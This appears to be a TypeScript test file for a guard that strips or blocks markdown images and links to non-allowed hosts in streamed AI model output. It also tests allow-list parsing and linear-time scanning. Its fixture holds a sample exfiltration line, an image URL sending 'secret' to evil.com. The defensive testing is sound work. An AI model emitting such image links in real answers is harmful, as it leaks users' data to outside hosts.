import { describe, expect, it } from 'vitest'
import {
  answerNow,
  bytes,
  checks,
  DONE,
  delta,
  exchange,
  finish,
  rule,
  said,
  streamNow,
} from '../../../test/drive.ts'
import { firstBreach, inspectWhole, openCase } from '../../../test/guard-law.ts'
import type { Action } from '../../core/types.ts'
import { links } from './index.ts'

const open = (allow?: string[]) => openCase(links, { config: allow === undefined ? {} : { allow } })
const BAD = 'Here: ![a chart](https://evil.com/c?q=secret) and more.'

describe('config', () => {
  for (const [entry, says] of [
    ['com', 'example.com'],
    ['co.uk', 'example.co.uk'],
    ['*.github.io', 'example.github.io'],
    ['https://example.com', 'must be a host'],
    ['example.com/path', 'must be a host'],
    ['*', 'must be a host'],
    ['*.*.com', 'must be a host'],
    ['', 'must be a host'],
    ['user@example.com', 'must be a host'],
    ['0x7f.1', 'must be a host'],
    ['*.127.0.0.1', 'no subdomains'],
  ])
    it(`refuses ${entry} in allow`, () => {
      expect(() => links.config.parse({ allow: [entry] })).toThrow(says)
    })

  it('takes hosts, addresses and names of other scripts', async () => {
    const guard = await open(['Example.com', '127.0.0.1', 'localhost', 'bücher.example', '*.user.github.io'])
    const image = (url: string) => inspectWhole(guard, `![a](${url})`)
    for (const url of [
      'https://EXAMPLE.com/',
      'http://127.1/',
      'http://localhost/',
      'https://xn--bcher-kva.example/',
      'https://a.user.github.io/',
    ])
      expect((await image(url)).hits, url).toEqual([])
    for (const url of [
      'https://user.github.io/',
      'https://other.github.io/',
      'https://example.com.evil.org/',
    ])
      expect((await image(url)).hits, url).toHaveLength(1)
  })
})

describe('in an answer', () => {
  const answered = async (action: Action) => {
    const actions = new Map([['exfil.image', action]])
    return checks([rule('output', action, await open(), { name: 'links', actions })])
  }

  it('an image is its label when it is edited, buffered and however it is streamed', async () => {
    const on = await answered('transform')
    const body = {
      choices: [{ index: 0, message: { role: 'assistant', content: BAD }, finish_reason: 'stop' }],
    }
    const { out } = answerNow(exchange(on), body)
    expect(JSON.parse(out).choices[0].message.content).toBe('Here: a chart and more.')
    for (const size of [1, 2, 3, 7, 20]) {
      const pieces = BAD.match(new RegExp(`.{1,${size}}`, 'gs'))!
      const sent = [...pieces.map((piece) => delta(piece)), finish(), DONE].map(bytes)
      expect(said(streamNow(exchange(on), sent).out)).toBe('Here: a chart and more.')
    }
  })

  it('nothing of it has left a stream that it ends', async () => {
    const sent = [...BAD].map((piece) => bytes(delta(piece)))
    const { out, block } = streamNow(exchange(await answered('block')), sent)
    expect(block?.code).toBe('exfil.image')
    expect(said(out)).toBe('Here: ')
  })

  it('text leaves as soon as it can be no link', async () => {
    const { steps } = streamNow(
      exchange(await answered('block')),
      ['plain ', 'a < b ', '[1] ', 'f[i](x) ', 'ok'].map((piece) => bytes(delta(piece))),
    )
    expect(steps.slice(0, 5).map((step) => said(step))).toEqual([
      'plain ',
      'a < b ',
      '[1] ',
      'f[i](x) ',
      'ok',
    ])
  })
})

it('a reason never says what was found', async () => {
  const { hits } = await inspectWhole(await open(), BAD)
  expect(hits[0]?.reason).not.toMatch(/secret|evil/)
})

it('holds no more than it says, whatever is left open', async () => {
  const guard = await open()
  for (const text of [
    '[',
    '![a](https://e.com/',
    '<a b="',
    '<img ',
    'https://e.com/',
    'url(',
    '[a]: https://e.com/',
  ])
    expect(await firstBreach(guard, text + 'x'.repeat(6000), { random: 5 }), text).toBeUndefined()
})

/** A bound that only time that grows faster than the text exceeds. */
const GENEROUS = 20_000

it('reads the worst texts in linear time', { timeout: 40 * GENEROUS }, async () => {
  const guard = await open()
  const worst = [
    ...[
      '[',
      '![',
      '](',
      '](<',
      '](a "',
      ']((',
      ']: ',
      '[]:a',
      '<a ',
      '<a b="',
      `<a b="<a c='`,
      '<a x=1 ',
      '<',
      '\\',
      'www.',
      'url(',
    ],
    ...[
      'https://',
      'https://a.b/?c=d ',
      '[a](https://example.com/page?q=1) ',
      '![](//a.b/?&&&&&&&&)',
      '](&#x68;',
      '[\n',
      '\n \n',
    ],
    `<img srcset="a 1x, b 2x, c 3x">`,
    `https://a.b/?q=${'61'.repeat(900)} `,
    `<a style="${'url(a) '.repeat(200)}">`,
  ]
  for (const unit of worst) {
    const text = unit.repeat(Math.ceil(2 ** 20 / unit.length))
    const began = performance.now()
    await inspectWhole(guard, text)
    expect(performance.now() - began, unit.slice(0, 20)).toBeLessThan(GENEROUS)
  }
})
